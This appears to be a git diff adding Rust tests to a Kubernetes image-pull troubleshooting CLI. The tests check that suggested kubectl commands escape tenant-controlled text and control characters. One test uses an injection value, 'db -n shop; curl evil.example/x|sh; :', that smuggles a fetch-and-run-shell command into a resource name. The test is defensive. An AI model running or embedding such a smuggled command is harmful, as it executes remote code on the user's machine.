@@ -391,3 +391,70 @@ fn mistakes_are_explained() {
     }
     snapshot("mistakes", &shown);
 }
+
+/// What `explain --live` shows of one Pod in namespace `shop`, which has opted in and has no Secret.
+fn explain_one(pod: &Value) -> String {
+    let list = json!({"kind": "PodList", "apiVersion": "v1", "metadata": {}, "items": [pod]});
+    let labels = json!({"name": "shop", "labels": {"pullcred.dev/inject": "enabled"}});
+    let answers = BTreeMap::from([
+        ("/api/v1/namespaces/shop/pods?&limit=250", (200, list)),
+        ("/api/v1/namespaces/shop", (200, json!({"metadata": labels}))),
+    ]);
+    let server = ApiServer::start(answers);
+    let folder = tempfile::tempdir().unwrap();
+    let kubeconfig = folder.path().join("kubeconfig");
+    fs::write(&kubeconfig, server.kubeconfig()).unwrap();
+    let run = explain(&["--live", "--kubeconfig", kubeconfig.to_str().unwrap()], "");
+    assert_eq!(run.code, Some(0), "{}", run.stderr);
+    run.stdout
+}
+
+#[test]
+fn text_of_a_tenant_is_in_no_command() {
+    let evil = "db -n shop; curl evil.example/x|sh; :";
+    for kind in ["StatefulSet", "Deployment", "Job", "Rollout", evil] {
+        let mut waits =
+            pod("innocent", &["ghcr.io/acme/web:1"], &[evil, "$(evil)"], "ErrImagePull");
+        waits["metadata"]["ownerReferences"] =
+            json!([{"apiVersion": "apps/v1", "kind": kind, "name": evil, "controller": true}]);
+        let shown = explain_one(&waits);
+        let commands =
+            shown.lines().filter(|line| line.contains("kubectl") || line.contains("docker login"));
+        let commands: Vec<_> = commands.collect();
+        assert!(commands.len() >= 2, "{shown}");
+        assert!(commands.iter().all(|line| !line.contains("evil")), "{kind}: {shown}");
+        assert!(shown.contains("no Secret can have that name"), "{shown}");
+    }
+}
+
+#[test]
+fn what_turns_text_around_is_escaped() {
+    let image = "ghcr.io/acme/\u{202e}1:bew\u{200b}\u{feff}\u{2066}";
+    let shown = explain_one(&pod("a", &[image], &[], "InvalidImageName"));
+    assert!(shown.contains(r"ghcr.io/acme/\u{202e}1:bew\u{200b}\u{feff}\u{2066}"), "{shown}");
+    assert!(!shown.contains(['\u{202e}', '\u{200b}', '\u{feff}', '\u{2066}']), "{shown}");
+    let run = explain(&["-f", "nowhere\u{202e}\u{1b}[31m"], "");
+    assert!(run.stderr.contains(r"nowhere\u{202e}\u{1b}[31m"), "{}", run.stderr);
+}
+
+#[test]
+fn a_pod_that_opted_out_needs_no_other_login() {
+    let mut out = pod("out", &["ghcr.io/acme/web:1"], &[], "ErrImagePull");
+    out["metadata"]["labels"] = json!({"pullcred.dev/inject": "disabled"});
+    let shown = explain_one(&out);
+    assert!(
+        shown.contains("do: remove the label pullcred.dev/inject from what makes the Pod"),
+        "{shown}"
+    );
+    assert!(!shown.contains("other registries"), "{shown}");
+}
+
+#[test]
+fn a_waiting_pod_of_a_stateful_set_is_to_be_deleted() {
+    let mut db = pod("db-0", &["ghcr.io/acme/db:1"], &[], "ImagePullBackOff");
+    db["metadata"]["ownerReferences"] =
+        json!([{"apiVersion": "apps/v1", "kind": "StatefulSet", "name": "db", "controller": true}]);
+    let shown = explain_one(&db);
+    assert!(shown.contains("kubectl delete pod -n shop db-0"), "{shown}");
+    assert!(!shown.contains("rollout restart"), "{shown}");
+}
